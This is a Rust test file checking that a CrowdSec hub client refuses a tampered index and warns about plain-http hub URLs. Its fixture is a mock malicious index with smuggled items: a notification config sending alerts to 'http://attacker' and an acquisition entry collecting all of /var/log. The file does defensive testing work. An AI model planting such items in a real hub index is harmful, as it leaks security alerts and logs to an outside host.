//! Hub item types: a tampered index that adds types cscli does not manage
//! (`notifications`, `acquis.d`: their items would be linked into `config_dir/<type>/`)
//! is refused before anything is written; a plain `http://` hub URL is warned about.
//! No engine is run: the refusal comes before any file or `crowdsec -t`.

mod support;

use base64::Engine as _;
use cerberus::engine::hub::{sha256_hex, EngineLayout, Hub, HubError, HubOptions, PresetRequest};
use serde_json::{json, Value};
use std::path::Path;
use support::engine_env::HubServer;

fn item(path: &str, body: &str) -> Value {
    json!({
        "path": path, "version": "0.1",
        "versions": {"0.1": {"digest": sha256_hex(body.as_bytes()), "deprecated": false}},
        "description": "test item",
        "content": base64::engine::general_purpose::STANDARD.encode(body),
    })
}

/// A collection with one real scenario, plus the smuggled types and the collection
/// naming them.
fn tampered() -> Vec<u8> {
    let mut collection = item("collections/evil/web.yaml", "name: evil/web\n");
    collection["scenarios"] = json!(["evil/probing"]);
    collection["notifications"] = json!(["evil/http"]);
    collection["acquis.d"] = json!(["evil/all-logs"]);
    let index = json!({
        "collections": {"evil/web": collection},
        "scenarios": {"evil/probing": item("scenarios/evil/probing.yaml", "type: leaky\n")},
        "notifications": {"evil/http": item("notifications/evil/http.yaml", "type: http\nurl: http://attacker\n")},
        "acquis.d": {"evil/all-logs": item("acquis.d/evil/all-logs.yaml", "filenames: [/var/log/*]\n")},
    });
    serde_json::to_vec(&index).unwrap()
}

fn layout(root: &Path) -> EngineLayout {
    EngineLayout {
        config_file: root.join("config/config.yaml"),
        config_dir: root.join("config"),
        hub_dir: root.join("hub"),
        index_path: root.join("hub/.index.json"),
        data_dir: root.join("data"),
        crowdsec_bin: root.join("no-crowdsec-needed"),
    }
}

/// Every path under `root`, relative.
fn files(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries {
            let p = e.unwrap().path();
            out.push(p.strip_prefix(root).unwrap().display().to_string());
            if p.is_dir() {
                stack.push(p);
            }
        }
    }
    out.sort();
    out
}

fn hub(url: &str, root: &Path) -> Hub {
    Hub::with_options(
        url,
        &root.join("cerberus-hub"),
        layout(root),
        reqwest::Client::new(),
        HubOptions::default(),
    )
    .unwrap()
}

#[tokio::test]
async fn an_index_with_types_cscli_does_not_manage_is_refused_before_anything_is_written() {
    let dir = tempfile::tempdir().unwrap();
    for d in ["config", "hub", "data"] {
        std::fs::create_dir_all(dir.path().join(d)).unwrap();
    }
    let before = files(dir.path());
    let server = HubServer::start(tampered()).await;
    let hub = hub(&server.url, dir.path());

    let err = hub
        .install(&PresetRequest::new("evil/web"))
        .await
        .unwrap_err();
    assert!(matches!(err, HubError::BadIndex { .. }), "{err:?}");
    let msg = err.to_string();
    for word in [
        "acquis.d",
        "notifications",
        "cscli does not manage",
        "nothing was written",
    ] {
        assert!(msg.contains(word), "{word:?} in {msg}");
    }
    assert!(err.body().nothing_changed, "{:?}", err.body());
    // Not the scenario, not the smuggled files, not even the index cache.
    assert_eq!(files(dir.path()), before);

    // The listing refuses the same index the same way.
    let err = hub.list(None, None).await.unwrap_err();
    assert!(err.to_string().contains("notifications"), "{err}");
    assert_eq!(files(dir.path()), before);
}

#[tokio::test]
async fn a_plain_http_hub_url_is_warned_about_off_loopback() {
    let dir = tempfile::tempdir().unwrap();
    let plain = hub("http://hub.example.org/.index.json", dir.path());
    let w = plain
        .url_warning()
        .expect("plain http off loopback is warned about");
    assert!(w.contains("hub_url") && w.contains("https"), "{w}");
    for quiet in [
        "https://hub-data.crowdsec.net/master/.index.json",
        "http://127.0.0.1:1/hub/.index.json",
        "http://[::1]:1/hub/.index.json",
        "http://localhost:1/hub/.index.json",
    ] {
        assert_eq!(hub(quiet, dir.path()).url_warning(), None, "{quiet}");
    }
}
